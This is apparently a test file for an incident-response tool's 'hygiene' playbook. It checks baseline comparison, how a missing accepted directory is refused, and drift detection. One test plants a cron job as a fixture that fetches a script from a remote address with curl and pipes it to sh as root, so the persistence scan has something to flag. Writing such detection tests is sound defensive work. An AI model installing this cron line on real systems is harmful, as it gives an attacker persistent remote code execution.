import { execFileSync } from 'node:child_process';
import { existsSync, mkdirSync, mkdtempSync, readdirSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { parseJson, ROOT, runIr } from '../helpers/cli.js';
import type { PlaybookRun } from '../../src/playbook/runner.js';

/**
 * The hygiene playbook compares with an accepted state (`--set accepted=DIR`), and with the last run
 * until one is accepted. Runs on a copy of the bundled example (--root), so no service is needed.
 */
let work: string;
let image: string;
beforeAll(() => {
  work = mkdtempSync(join(tmpdir(), 'ir-hyg-'));
  image = join(work, 'host');
  // cp -a keeps the example's file times (the build applies them; issue 20 §2)
  execFileSync('cp', ['-a', join(ROOT, 'examples', 'compromised-host'), image]);
});
afterAll(() => rmSync(work, { recursive: true, force: true }));

interface Baselined {
  baseline?: { file: string; counts: Record<string, number> };
}

function stepJson<T>(caseDir: string, name: string): T {
  const f = readdirSync(join(caseDir, 'steps')).find((n) => n.endsWith(`-${name}.json`))!;
  return JSON.parse(readFileSync(join(caseDir, 'steps', f), 'utf8')) as T;
}

test('--dry-run shows the accepted baseline per host, and no baseline on a first run', async () => {
  const accepted = mkdtempSync(join(tmpdir(), 'ir-accepted-'));
  mkdirSync(join(accepted, 'image'));
  for (const f of ['sweep-baseline.json', 'persistence-baseline.json']) writeFileSync(join(accepted, 'image', f), '{}');
  const withAccepted = parseJson<PlaybookRun>(await runIr(['playbook', 'run', 'hygiene', '--root', image, '--dry-run', '--json', '--set', `accepted=${accepted}/{{host}}`], { cwd: work }));
  rmSync(accepted, { recursive: true, force: true });
  const argv = withAccepted.hosts[0]!.steps.find((s) => s.name === 'sweep')!.argv;
  expect(argv).toContain(`--baseline=${accepted}/image/sweep-baseline.json`);
  const first = parseJson<PlaybookRun>(await runIr(['playbook', 'run', 'hygiene', '--root', image, '--dry-run', '--json'], { cwd: work }));
  const sweep = first.hosts[0]!.steps.find((s) => s.name === 'sweep')!;
  expect(sweep.argv.some((a) => a.startsWith('--baseline'))).toBe(false);
  expect(sweep.omitted).toEqual(['baseline']);
  expect(readdirSync(work)).toEqual(['host']); // a dry run writes nothing
});

test('a missing accepted directory is refused at the start: one line, exit 2, nothing run or written; later runs are fine', async () => {
  // the README's own example, where that directory does not exist (issue 15 §6)
  const r = await runIr(['playbook', 'run', 'hygiene', '--root', image, '--set', 'accepted=cases/hygiene-20261128T060000Z'], { cwd: work, timeoutMs: 120_000 });
  expect(r.code).toBe(2);
  expect(r.stderr).toBe('ir playbook run: --set accepted=cases/hygiene-20261128T060000Z: no such file or directory\n');
  expect(r.stdout).toBe('');
  expect(existsSync(join(work, 'cases'))).toBe(false);
  // the same in a dry run: it says what the run would do, and the run would refuse
  const dry = await runIr(['playbook', 'run', 'hygiene', '--root', image, '--dry-run', '--set', 'accepted=cases/hygiene-20261128T060000Z'], { cwd: work });
  expect(dry.code).toBe(2);
  expect(dry.stderr).toMatch(/no such file or directory/);
  // the next run without --set works, and is a baseline for the one after
  const ok = await runIr(['playbook', 'run', 'hygiene', '--root', image, '--case', join(work, 'cases', 'after-refusal'), '--json'], { cwd: work, timeoutMs: 300_000 });
  expect(parseJson<PlaybookRun>(ok).hosts[0]!.steps.filter((s) => s.status === 'error')).toEqual([]);
  rmSync(join(work, 'cases'), { recursive: true, force: true });
}, 600_000);

test('a run accepted, then a planted cron job is the one new persistence finding of the next run', async () => {
  const accepted = join(work, 'cases', 'accepted');
  const r1 = await runIr(['playbook', 'run', 'hygiene', '--root', image, '--case', accepted, '--json'], { cwd: work, timeoutMs: 300_000 });
  expect(r1.code).not.toBe(2);
  expect(stepJson<Baselined>(accepted, 'persistence-scan').baseline).toBeUndefined();

  writeFileSync(join(image, 'etc', 'cron.d', 'zz-planted'), '* * * * * root curl -s http://203.0.113.7/x | sh\n');
  const second = join(work, 'cases', 'second');
  const r2 = await runIr(['playbook', 'run', 'hygiene', '--root', image, '--case', second, '--json', '--set', `accepted=${accepted}`], { cwd: work, timeoutMs: 300_000 });
  expect(r2.code).toBe(1);
  const scan = stepJson<Baselined & { findings: { key: string; drift?: string }[] }>(second, 'persistence-scan');
  expect(scan.baseline!.file).toBe(join(accepted, 'persistence-baseline.json'));
  const fresh = scan.findings.filter((f) => f.drift === 'new');
  expect(fresh.length).toBeGreaterThanOrEqual(1);
  expect(fresh.every((f) => JSON.stringify(f).includes('zz-planted'))).toBe(true);
  expect(scan.baseline!.counts.unchanged).toBeGreaterThan(0);
  // the sweep compared with the accepted baseline too: most checks unchanged, and no state change: it
  // keeps no persistence state in hygiene (--state), so the planted job is reported once, by the scan
  const sweep = stepJson<{ drift?: { checks: { unchanged: number }; state: unknown[] }; state?: { kind: string }[] }>(second, 'sweep');
  expect(sweep.drift!.checks.unchanged).toBeGreaterThan(10);
  expect(sweep.drift!.state).toEqual([]);
  expect(sweep.state!.some((s) => s.kind === 'persistence')).toBe(false);
}, 600_000);
